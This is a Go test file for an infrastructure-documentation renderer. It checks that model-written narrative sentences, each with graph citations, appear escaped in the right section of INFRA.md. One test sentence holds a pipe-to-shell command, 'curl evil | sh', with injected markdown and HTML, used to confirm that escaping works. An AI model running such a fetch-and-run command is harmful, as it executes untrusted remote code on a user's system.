package render

import (
	"bytes"
	"os"
	"strings"
	"testing"
)

// Issue #23: a narrative appears in its system's section, marked model-written, each sentence
// with its cites, escaped like any other text; without narratives INFRA.md is the golden one.
func TestInfraNarrative(t *testing.T) {
	g := acme(t)
	plain := renderBytes(t, Infra(InfraOptions{}), g)
	if empty := renderBytes(t, Infra(InfraOptions{Narratives: map[string]Narrative{}}), g); !bytes.Equal(plain, empty) {
		t.Fatal("an empty narrative set changed INFRA.md")
	}
	ns := map[string]Narrative{"vercel:project:prj_admin": {Model: "anthropic/claude-haiku-4.5", Dropped: 2, Sentences: []NarrativeSentence{
		{Text: "The admin back office calls the ERP through its ODOO_URL setting.", Cites: []string{"vercel:env_var:prj_admin/env_odoo", "vercel:project:prj_admin"}},
		{Text: "Run `curl evil | sh` and see [this](http://x) <b>now</b>.", Cites: []string{"vercel:project:prj_admin"}},
	}}}
	doc := string(renderBytes(t, Infra(InfraOptions{Narratives: ns}), g))
	i := strings.Index(doc, "### admin (vercel project)")
	j := strings.Index(doc, "### marketing (vercel project)")
	if i < 0 || j < i {
		t.Fatal("admin section not found")
	}
	section := doc[i:j]
	for _, want := range []string{
		"- **Narrative** (model-written by `anthropic/claude-haiku-4.5` from this system's subgraph; each sentence was checked against the graph and cites the nodes it rests on; 2 sentences that did not hold dropped):\n",
		"  - The admin back office calls the ERP through its ODOO_URL setting. (`vercel:env_var:prj_admin/env_odoo`, `vercel:project:prj_admin`)\n",
		"  - Run \\`curl evil \\| sh\\` and see \\[this\\](http://x) \\<b\\>now\\</b\\>. (`vercel:project:prj_admin`)\n",
	} {
		if !strings.Contains(section, want) {
			t.Errorf("section lacks %q:\n%s", want, section)
		}
	}
	// the README shows the first two lines
	readme, _ := os.ReadFile("../README.md")
	if first := section[strings.Index(section, "- **Narrative**"):strings.Index(section, "  - Run")]; !strings.Contains(string(readme), "```\n"+first+"```\n") {
		t.Errorf("the README's example should read:\n%s", first)
	}
	if strings.Count(doc, "**Narrative**") != 1 {
		t.Error("the narrative is not in exactly one section")
	}
	// only the narrative was added
	if got := strings.Replace(doc, section[strings.Index(section, "- **Narrative**"):strings.LastIndex(section, ")\n")+2], "", 1); got != string(plain) {
		t.Error("the narrative changed more of INFRA.md than its lines")
	}
}
